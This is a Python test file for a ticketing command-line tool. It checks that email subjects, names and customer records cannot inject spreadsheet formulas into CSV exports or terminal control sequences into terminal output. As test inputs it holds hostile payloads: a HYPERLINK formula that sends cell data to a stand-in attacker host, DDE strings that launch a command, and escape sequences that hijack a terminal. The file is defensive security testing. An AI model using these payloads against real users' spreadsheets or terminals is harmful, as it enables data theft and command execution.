"""What a mail contains cannot attack the reader (issue 19): no live formula
in a CSV file, no terminal control on a terminal; JSON keeps the text."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
from email.message import EmailMessage
from typing import TYPE_CHECKING

from tests.helpers import Desk

if TYPE_CHECKING:
    from pathlib import Path

FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
)
# CSI, OSC (set the window title) ... ST, a bidi override, ESC and BEL.
CONTROLS = "\u009b31mRED \u009d0;pwned\u009c \u202eevil\u202c \x1b[2J\x07"


def mail(n: int, subject: str, name: str = "Mari", body: str = "Tere") -> bytes:
    msg = EmailMessage()
    msg["From"] = f'"{name}" <mari{n}@kund.ee>'
    msg["To"] = "support@acme-help.example"
    msg["Subject"] = subject
    msg["Date"] = f"Mon, 02 Mar 2026 10:{n:02d}:00 +0200"
    msg["Message-ID"] = f"<h{n}@kund.ee>"
    msg.set_content(body + "\n")
    return bytes(msg)


def test_no_csv_cell_starts_a_formula(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    desk.deliver(*(mail(n, s) for n, s in enumerate(FORMULAS)))
    added = desk.run("customers", "add", "=cmd|' /C calc'!A0", "--code", "@X")
    assert added.exit_code == 0, added.stderr
    listed = desk.run("report", "--assignee", "*", "--format", "csv")
    assert listed.exit_code == 0, listed.stderr
    rows = list(csv.DictReader(io.StringIO(listed.stdout)))
    assert sorted(r["subject"] for r in rows) == sorted(f"'{s}" for s in FORMULAS)
    customers = desk.run("customers", "list", "--format", "csv").stdout
    [row] = list(csv.DictReader(io.StringIO(customers)))
    assert (row["name"], row["code"]) == ("'=cmd|' /C calc'!A0", "'@X")
    for rows_csv in (listed.stdout, customers):
        for record in csv.reader(io.StringIO(rows_csv)):
            assert not any(cell[:1] in "=+-@\t\r" for cell in record if cell)
    # JSON keeps what the mail said.
    shown = json.loads(desk.run("report", "--assignee", "*", "--format", "json").stdout)
    assert {r["subject"] for r in shown} >= {FORMULAS[0], FORMULAS[1]}


def run_on_a_terminal(args: list[str]) -> str:
    """What a command writes to a pty (stdout and stderr), as the terminal
    receives it."""
    leader, follower = pty.openpty()
    env = {**os.environ, "PYTHONPATH": os.getcwd(), "COLUMNS": "200"}
    proc = subprocess.Popen(args, stdout=follower, stderr=follower, env=env)
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 4096)
        except OSError:
            break
        if not chunk:
            break
        chunks.append(chunk)
    proc.wait(timeout=60)
    os.close(leader)
    return b"".join(chunks).decode("utf-8", "replace")


def test_no_control_reaches_the_terminal(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    desk.deliver(mail(1, f"Printer {CONTROLS}", f"Mari {CONTROLS}", f"Tere {CONTROLS}"))
    typed = desk.run("new", "--from", "mari@kund.ee", "--subject", "X\x1b]0;t\x07Y")
    assert typed.exit_code == 0, typed.stderr
    records = tmp_path / "customers.csv"
    records.write_text(
        f"name,code,emails,domains\nAcme\x1b[2J{CONTROLS},ACME,,acme.example\n",
        encoding="utf-8",
    )
    imported = desk.run("customers", "import", str(records))
    assert imported.exit_code == 0, imported.stderr
    base = [
        sys.executable,
        "-m",
        "ticketcli",
        "--config",
        str(desk.config),
        "--db",
        desk.db,
    ]
    screen = "".join(
        run_on_a_terminal([*base, *args])
        for args in (
            ["report", "--assignee", "*"],
            ["show", "1"],
            ["show", "2"],
            ["customer", "1", f"NO{CONTROLS}"],
            ["customers", "list"],
            ["customers", "show", "ACME"],
        )
    )
    for char in ("\u009b", "\u009d", "\u009c", "\u202e", "\u202c", "\x07"):
        assert char not in screen, repr(char)
    assert "\x1b[2J" not in screen
    assert "\x1b]0;" not in screen
    assert "\\x9b31mRED" in screen
    assert "\\u202eevil" in screen
    assert "X\\x1b]0;t\\x07Y" in screen
    assert "Acme\\x1b[2J\\x9b31mRED" in screen
    # The store and JSON keep the original text.
    kept = json.loads(desk.run("show", "1", "--format", "json").stdout)
    assert "\u202eevil" in kept["subject"]


def test_quarantine_show_refuses_a_terminal(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    (desk.inbox / "bad.eml").write_bytes(b"\x1b[2J" + b"x" * 10)
    desk.run("sync", "--source", str(desk.inbox))
    base = [
        sys.executable,
        "-m",
        "ticketcli",
        "--config",
        str(desk.config),
        "--db",
        desk.db,
    ]
    screen = run_on_a_terminal([*base, "quarantine", "show", "1"])
    assert "\x1b[2J" not in screen
    assert "redirect to a file" in screen
